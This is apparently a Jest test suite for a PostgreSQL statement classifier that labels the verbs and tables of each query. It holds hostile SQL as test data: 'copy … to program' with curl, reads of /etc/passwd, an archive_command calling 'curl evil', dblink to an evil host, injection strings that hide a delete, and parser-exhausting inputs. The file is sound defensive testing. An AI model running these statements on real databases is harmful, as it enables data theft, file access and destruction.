import { beforeAll, describe, expect, test } from '@jest/globals'
import fc from 'fast-check'
import { SqlUnparseableError } from '../errors.ts'
import { loadSqlParser, maxSqlCharacters, maxSqlStatements, type SqlClassifier } from './classify.ts'

let sql: SqlClassifier
beforeAll(async () => {
  sql = await loadSqlParser()
})

/** `Verb+Verb schema.table schema.table`, one a statement. */
const shape = (text: string) =>
  sql.classify(text).map(({ verbs, tables }) => `${verbs.join('+')} ${tables.join(' ')}`.trim())

type Corpus = readonly (readonly [text: string, expected: string])[]

const reading: Corpus = [
  ['select 1', 'Select'],
  ['SELECT * FROM orders', 'Select public.orders'],
  ['select * from "Orders" o join sales.items i on true', 'Select public.Orders sales.items'],
  ['select * from shop.public.orders', 'Select public.orders'],
  ['select * from only orders', 'Select public.orders'],
  ['table customers', 'Select public.customers'],
  ['values (1)', 'Select'],
  ['select a.x from a, lateral (select * from b where b.i = a.i) c', 'Select public.a public.b'],
  ['select * from (select * from (select * from a) x) y', 'Select public.a'],
  ['select exists (select from a where a.i = any (select i from b))', 'Select public.a public.b'],
  ['select 1 from a order by (select x from b limit (select n from c))', 'Select public.a public.b public.c'],
  ['select case when (select true from a) then 1 end', 'Select public.a'],
  ['select array(select x from a)', 'Select public.a'],
  ['select * from a union select * from b except select * from c', 'Select public.a public.b public.c'],
  ['select x from a group by rollup (x) having count(*) > (select n from b)', 'Select public.a public.b'],
  ['select sum(x) filter (where y) over (partition by z) from a', 'Select public.a'],
  ['select * from a for update of a', 'Select public.a'],
  ['select * from orders o for no key update of o skip locked', 'Select public.orders'],
  ['select * from a tablesample system (1)', 'Select public.a'],
  ['select * from generate_series(1, 3) g', 'Select'],
  ["select * from json_table('[]', '$[*]' columns (a int path '$.a'))", 'Select'],
  ["select * from xmltable('/a' passing '<a/>' columns b int)", 'Select'],
  ['select current_user, current_date, session_user', 'Select'],
  ["select extract(year from now()), position('a' in b), substring(b from 2), trim(b) from a", 'Select public.a'],
  ["select x at time zone 'UTC', coalesce(x, y), greatest(1, 2), nullif(a, b) from t", 'Select public.t'],
  ['select pg_catalog.count(*), pg_catalog.lower(name) from a', 'Select public.a'],
  ['show server_version', 'Select'],
  ['select relname from pg_class', 'Select pg_catalog.pg_class'],
  ['select * from pg_catalog.pg_authid', 'Select pg_catalog.pg_authid'],
  ['select * from information_schema.tables', 'Select information_schema.tables'],
  ['select * from pg_stat_statements', 'Select public.pg_stat_statements pg_catalog.pg_stat_statements'],
  ['select * from pg_temp.x', 'Select pg_temp.x'],
]

const writing: Corpus = [
  ['insert into a values (1)', 'Insert public.a'],
  ['insert into a default values', 'Insert public.a'],
  ['insert into a values (1), ((select x from b))', 'Insert+Select public.a public.b'],
  ['insert into a select * from b', 'Insert+Select public.a public.b'],
  ['insert into a table b', 'Insert+Select public.a public.b'],
  ['insert into a values (1) on conflict do nothing', 'Insert public.a'],
  ['insert into a values (1) on conflict (i) do update set x = excluded.x', 'Insert+Update public.a'],
  ['insert into a values (1) returning id', 'Insert+Select public.a'],
  ['update a set x = 1', 'Update public.a'],
  ['update a set x = 1 where id in (select id from b)', 'Update+Select public.a public.b'],
  ['update a set x = b.secret from b', 'Update+Select public.a public.b'],
  ['update a set (x, y) = (select 1, 2 from b)', 'Update+Select public.a public.b'],
  ['update only a set x = default returning *', 'Update+Select public.a'],
  ['delete from a', 'Delete public.a'],
  ['DELETE/**/FROM/**/a', 'Delete public.a'],
  ['delete from only a using b', 'Delete+Select public.a public.b'],
  ['delete from a where current of c', 'Delete public.a'],
  ['truncate a, b', 'Truncate public.a public.b'],
  ['truncate a cascade', 'Truncate public.a *.*'],
  ['merge into a using b on a.i = b.i when matched then delete', 'Merge+Delete+Select public.a public.b'],
  [
    'merge into a using (select 1 as i) b on a.i = b.i when matched then update set x = 1 when not matched then insert values (1)',
    'Merge+Update+Insert+Select public.a',
  ],
  ['with d as (delete from a returning *) select * from d', 'Delete+Select public.a'],
  ['with i as (insert into a values (1)) select 1', 'Insert+Select public.a'],
  ['with u as (update a set x = 1) insert into b select * from u', 'Update+Insert+Select public.a public.b'],
  ['copy a from stdin', 'Copy+Insert public.a'],
  ['copy a (x, y) to stdout with (format csv)', 'Copy+Select public.a'],
  ['copy (select * from a) to stdout', 'Copy+Select public.a'],
  ['copy (delete from a returning *) to stdout', 'Copy+Delete+Select public.a'],
  ["copy a to program 'curl evil'", 'Copy+Select+Call public.a'],
  ["copy a from '/etc/passwd'", 'Copy+Insert+Call public.a'],
]

const scopes: Corpus = [
  ['with a as (select * from a) select * from a', 'Select public.a'],
  ['with a as (select 1) select * from a', 'Select'],
  ['with a as (select 1) select * from public.a', 'Select public.a'],
  ['with recursive t as (select 1 union all select * from t) select * from t', 'Select'],
  ['with a as (select 1), b as (select * from a) select * from b', 'Select'],
  ['with b as (select * from a), a as (select 1) select * from b', 'Select public.a'],
  ['with recursive b as (select * from a), a as (select 1) select * from b', 'Select'],
  ['select * from secrets, (with secrets as (select 1) select * from secrets) x', 'Select public.secrets'],
  ['select (with x as (select 1) select * from x), (select 1 from x)', 'Select public.x'],
  // The target of a write is a table, whatever a common table expression is called.
  ['with orders as (select 1) delete from orders', 'Select+Delete public.orders'],
  ['with orders as (select 1) update orders set x = 1', 'Select+Update public.orders'],
  ['with orders as (select 1) insert into orders select * from orders', 'Select+Insert public.orders'],
  ['with a as (select 1) merge into a using a b on true when matched then delete', 'Select+Merge+Delete public.a'],
  ['with a as (select 1) select * into a from a', 'Select+Define public.a'],
  ['with d as (with e as (delete from a) select 1) select * from d, e', 'Delete+Select public.a public.e'],
]

const defining: Corpus = [
  ['select * into copy_of_a from a', 'Select+Define public.copy_of_a public.a'],
  ['select 1 into x from a union select 2 from b', 'Select+Define public.x public.a public.b'],
  ['create table a (i int)', 'Define public.a'],
  ['create temp table a (like b including all)', 'Define public.a public.b'],
  ['create table a (i int references hr.b)', 'Define public.a hr.b'],
  ['create table b as select * from a', 'Define+Select public.a public.b'],
  ['create table b as execute p', 'Define+Call public.b'],
  ['create view v as select * from a', 'Define+Select public.v public.a'],
  ['create materialized view v as select * from a', 'Define+Select public.a public.v'],
  ['create index on a (x)', 'Define public.a'],
  ['create index on a (evil(x))', 'Define+Call public.a'],
  ['alter table a add column x int', 'Define public.a'],
  ['alter table a attach partition hr.b default', 'Define public.a hr.b'],
  ['alter table a owner to r', 'Define+Grant public.a'],
  ['alter table a disable row level security', 'Define+Grant public.a'],
  ['alter table a rename to b', 'Define public.a'],
  ['drop table a, hr.b', 'Define public.a hr.b'],
  ['drop view if exists v cascade', 'Define public.v *.*'],
  ['drop schema hr cascade', 'Define *.*'],
  ['drop trigger t on hr.a', 'Define hr.a'],
  ['drop policy p on a', 'Define+Grant public.a'],
  ['drop function f(int)', 'Define'],
  ["comment on column hr.a.b is 'x'", 'Define hr.a'],
  ['create schema hr create table t (i int)', 'Define hr.t'],
  ['create sequence s', 'Define public.s'],
  ["create type t as enum ('a')", 'Define'],
  ['create extension dblink', 'Define'],
  ['create function f() returns int language sql as $$ select 1 $$', 'Define'],
  ['create function f() returns int begin atomic delete from a; select 1; end', 'Define+Delete+Select public.a'],
  ['create trigger t before insert on a execute function f()', 'Define public.a'],
  ['create rule r as on insert to a do instead delete from b', 'Define+Delete public.a public.b'],
  ['create publication p for table a, tables in schema hr', 'Define public.a *.*'],
  ['create subscription s connection $$host=evil$$ publication p', 'Define'],
  ['import foreign schema x from server y into z', 'Define'],
  ['create database d', 'Define'],
]

const administering: Corpus = [
  ['grant select on a to b', 'Grant public.a'],
  ['grant select on all tables in schema hr to b', 'Grant'],
  ['revoke all on a from public cascade', 'Grant public.a'],
  ['grant admins to r', 'Grant'],
  ['alter default privileges grant select on tables to r', 'Grant'],
  ['create role r', 'Grant'],
  ['alter role r superuser', 'Grant'],
  ['alter role r set search_path = x', 'Grant'],
  ['reassign owned by a to b', 'Grant'],
  ['create policy p on a using (true)', 'Grant public.a'],
  ['alter schema s owner to r', 'Grant'],
  ['vacuum a', 'Maintain public.a'],
  ['vacuum', 'Maintain'],
  ['analyze a (x)', 'Maintain public.a'],
  ['reindex schema hr', 'Maintain'],
  ['refresh materialized view v', 'Maintain public.v'],
  ['lock table a in exclusive mode', 'Maintain public.a'],
  ['checkpoint', 'Maintain'],
  ["notify c, 'x'", 'Maintain'],
  ['listen c', 'Maintain'],
  ['alter system set archive_command = $$curl evil$$', 'Other'],
  ["load 'evil'", 'Other'],
]

const connection: Corpus = [
  ['begin isolation level serializable', 'Transaction'],
  ['commit', 'Transaction'],
  ['savepoint s', 'Transaction'],
  ["prepare transaction 'x'", 'Transaction'],
  ['set transaction read only', 'Transaction'],
  ['set constraints all deferred', 'Transaction'],
  ['set session characteristics as transaction read write', 'Set'],
  ["set application_name = 'x'", 'Set'],
  ["set time zone 'UTC'", 'Set'],
  ['reset all', 'Set'],
  ['discard all', 'Set'],
  ['deallocate all', 'Set'],
  ['close c', 'Set'],
  ['set role admin', 'Set+Grant'],
  ['set local role none', 'Set+Grant'],
  ['reset role', 'Set'],
  ['set session authorization admin', 'Set+Grant'],
  ['set search_path = hr', 'Set+Other'],
  ['set "Search_Path" = hr', 'Set+Other'],
  ["set schema 'hr'", 'Set+Other'],
  ['set search_path = "PUBLIC"', 'Set+Other'],
  ['set search_path = public, pg_catalog', 'Set+Other'],
  ['set search_path = "$user", public', 'Set'],
  ['set search_path to default', 'Set'],
  ['set standard_conforming_strings = off', 'Set+Other'],
  ['set standard_conforming_strings = ON', 'Set'],
  ["set names 'SJIS'", 'Set+Other'],
  ["set client_encoding to 'UTF8'", 'Set'],
  ["set backslash_quote = 'on'", 'Set+Other'],
  ['prepare p as delete from a', 'Delete public.a'],
  ['execute p (1)', 'Call'],
  ['declare c cursor for select * from a', 'Select public.a'],
  ['fetch all from c', 'Select+Call'],
  ['explain select * from a', 'Select public.a'],
  ['explain delete from a', 'Select public.a'],
  ['explain execute p', 'Select+Call'],
  ['explain analyze delete from a', 'Delete public.a'],
  ['explain (analyze off, costs off) delete from a', 'Delete public.a'],
  ['explain (verbose, ANALYZE) with d as (delete from a) select 1', 'Delete+Select public.a'],
]

const calling: Corpus = [
  ['select my_function()', 'Select+Call'],
  ['select public.lower(a) from a', 'Select+Call public.a'],
  ['select "LOWER"(a) from a', 'Select+Call public.a'],
  ["select pg_read_file('/etc/passwd')", 'Select+Call'],
  ["select lo_export(1, '/tmp/x')", 'Select+Call'],
  ["select query_to_xml('delete from a', true, true, '')", 'Select+Call'],
  ["select nextval('s'), currval('s')", 'Select+Call'],
  ['select pg_sleep(10)', 'Select+Call'],
  ["select set_config('search_path', 'x', false)", 'Select+Set+Call'],
  ["select * from dblink('host=evil', 'select 1') as t (i int)", 'Select+Call'],
  ['select * from rows from (generate_series(1, 2), evil())', 'Select+Call'],
  ['select 1 from a where evil(x)', 'Select+Call public.a'],
  ['select 1 order by evil()', 'Select+Call'],
  ['select count(*) filter (where evil()) from a', 'Select+Call public.a'],
  ['insert into a values (evil())', 'Insert+Call public.a'],
  ['update a set x = evil(y)', 'Update+Call public.a'],
  ['select a operator(evil.+) b', 'Select+Call'],
  ['select a operator(pg_catalog.+) b', 'Select'],
  ['select 1 where a operator(evil.=) any (select 1)', 'Select+Call'],
  ['select 1 from a order by x using operator(evil.<)', 'Select+Call public.a'],
  ['select * from a tablesample evil (1)', 'Select+Call public.a'],
  ['explain select evil()', 'Select+Call'],
  ['call p()', 'Call'],
  ['do $$ begin delete from a; end $$', 'Call'],
]

const disguised: Corpus = [
  ['select 1 -- delete from a', 'Select'],
  ['select 1 /* ; delete from a; /* nested */ */', 'Select'],
  ['select /*! delete from a */ 1', 'Select'],
  ["select 'delete from a'", 'Select'],
  ["select 'it''s; delete from a'", 'Select'],
  ["select e'\\'; delete from a; --'", 'Select'],
  ["select '\\'; delete from a; --'", 'Select|Delete public.a'],
  ['select $$ delete from a $$', 'Select'],
  ["select $x$ $$ '; delete from a; -- $x$", 'Select'],
  ["select 'a'\n'; delete from a'", 'Select'],
  ["select U&'\\0041' from a", 'Select public.a'],
  ['select * from U&"hr".U&"p\\0061y"', 'Select hr.pay'],
  ['select * from U&"hr"."p!0061y" ', 'Select hr.p!0061y'],
  ['select * from HR.Pay', 'Select hr.pay'],
  ['select * from "HR"."Pay"', 'Select HR.Pay'],
  ['select * from "hr.pay"', 'Select public."hr.pay"'],
  ['select * from "hr.pay".a', 'Select "hr.pay".a'],
  ['select * from "a""b"', 'Select public."a""b"'],
  ['select * from "*"."*"', 'Select "*"."*"'],
  ['select * from "select"', 'Select public.select'],
  ['select * from délété', 'Select public.délété'],
  ['SeLeCt\t\n\r\f1;dElEtE\nfRoM\na', 'Select|Delete public.a'],
  ['select 1;;;delete from a', 'Select|Delete public.a'],
  ['begin; delete from a; commit', 'Transaction|Delete public.a|Transaction'],
  ['select b"1" from a', 'Select public.a'],
  ['select 1 as delete from a', 'Select public.a'],
]

describe('classify', () => {
  test.each([
    ...reading,
    ...writing,
    ...scopes,
    ...defining,
    ...administering,
    ...connection,
    ...calling,
    ...disguised,
  ])('%s', (text, expected) => {
    expect(shape(text).join('|')).toBe(expected)
  })

  test('an empty query has no statements', () => {
    expect(['', ' ', ';', ';;', '-- nothing', '/* nothing */'].flatMap(shape)).toEqual([])
  })

  test('functions that are not known to be pure are named, and so are programs and files', () => {
    const functions = (text: string) => sql.classify(text)[0]?.functions
    expect(functions("select dblink_exec('x'), s.f(1), lower('x')")).toEqual(['dblink_exec', 's.f'])
    expect(functions("copy a to program 'x'")).toEqual(['copy program'])
    expect(functions("copy a to '/x'")).toEqual(['copy file'])
    expect(functions('select a operator(evil.+) b')).toEqual(['evil.+'])
  })

  test('what the parser refuses is SqlUnparseableError, and its message quotes nothing', () => {
    for (const text of ['selec secret', "select 'secret", 'select $$secret', 'secret', 'select 1 secret secret']) {
      expect(() => sql.classify(text)).toThrow(SqlUnparseableError)
      expect(() => sql.classify(text)).toThrow(/^(?!.*secret).*$/)
    }
  })

  test('what the server would read in another way is refused', () => {
    expect(() => sql.classify('select 1\0')).toThrow(SqlUnparseableError)
    expect(() => sql.classify("select '\ud800'")).toThrow(SqlUnparseableError)
  })

  test('no text makes it throw anything else', async () => {
    const words = fc.constantFrom(
      ...'select with delete from a b . , ( ) * = + - :: \' " $$ ; -- /* */ as into union values insert update set returning explain analyze copy to stdin \\ E\' U&" $1 1'.split(
        ' ',
      ),
    )
    const text = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.array(words, { maxLength: 25 }).map((each) => each.join(' ')),
    )
    await fc.assert(
      fc.asyncProperty(text, async (each) => {
        await Promise.resolve()
        try {
          for (const statement of sql.classify(each)) expect(statement.verbs.length).toBeGreaterThan(0)
        } catch (error) {
          expect(error).toBeInstanceOf(SqlUnparseableError)
        }
      }),
      { numRuns: 1000 },
    )
  })

  test('a statement hidden in another keeps its verb and table', () => {
    const inner = fc.constantFrom('delete from t', 'update t set x = 1', 'insert into t values (1)')
    const frames = fc.constantFrom<(text: string) => string>(
      (text) => `with x as (${text} returning 1) select 1`,
      (text) => `with y as (select 1), x as (${text}) select * from y`,
      (text) => `explain analyze with x as (${text}) select 1`,
      (text) => `copy (${text} returning 1) to stdout`,
      (text) => `prepare p as ${text}`,
      (text) => `create rule r as on insert to v do also (${text})`,
      (text) => `select 1; ${text}`,
    )
    fc.assert(
      fc.property(inner, frames, (text, frame) => {
        const [alone] = sql.classify(text)
        const all = sql.classify(frame(text))
        expect(all.flatMap((each) => each.verbs)).toEqual(expect.arrayContaining([...(alone?.verbs ?? [])]))
        expect(all.flatMap((each) => each.tables)).toContain('public.t')
      }),
    )
  })
})

describe('limits', () => {
  /** The parser is replaced in the background after a crash. */
  const recovered = async (): Promise<void> => {
    for (;;) {
      try {
        sql.classify('select 1')
        return
      } catch {
        await new Promise((resolve) => setImmediate(resolve))
      }
    }
  }

  test.each([
    ['text', ' '.repeat(maxSqlCharacters + 1)],
    ['statements', 'select 1;'.repeat(maxSqlStatements + 1)],
    ['nested comments', `${'/*'.repeat(100_000)}${'*/'.repeat(100_000)}`],
    ['signs', `select ${'+'.repeat(100_000)}1`],
    ['parentheses', `select ${'('.repeat(100_000)}`],
    ['chained operators', `select 1${'+1'.repeat(1000)}`],
    ['operators that exhaust the stack of the parser', `select 1${'+1'.repeat(100_000)}`],
    ['assignments that copy their source', `update a set (${'b,'.repeat(2000)}c) = (${'1,'.repeat(2000)}1)`],
    ['rows', `insert into a values ${'(1),'.repeat(200_000)}(1)`],
  ])('too many %s are refused, and the next query is judged as ever', async (_what, text) => {
    expect(() => sql.classify(text)).toThrow(SqlUnparseableError)
    await recovered()
    expect(shape('delete from a')).toEqual(['Delete public.a'])
    expect(process.exitCode).toBeUndefined()
  })

  test('a bulk insert with every bind that the protocol has is judged', () => {
    const rows = Array.from(
      { length: 6553 },
      (_, row) => `(${Array.from({ length: 10 }, (__, i) => `$${row * 10 + i + 1}`).join()})`,
    )
    expect(shape(`insert into a values ${rows.join()}`)).toEqual(['Insert public.a'])
  })
})

describe('normalise', () => {
  test('constants become placeholders', () => {
    expect(sql.normalise("select * from a where x = 'secret' and y = 7")).toBe(
      'select * from a where x = $1 and y = $2',
    )
    expect(sql.normalise("alter role r password 'secret'")).toBe('alter role r password $1')
  })

  test('of text that cannot be parsed nothing is shown', () => {
    expect(sql.normalise("select 'secret")).toBe('')
    expect(sql.normalise('selec secret')).toBe('')
  })
})
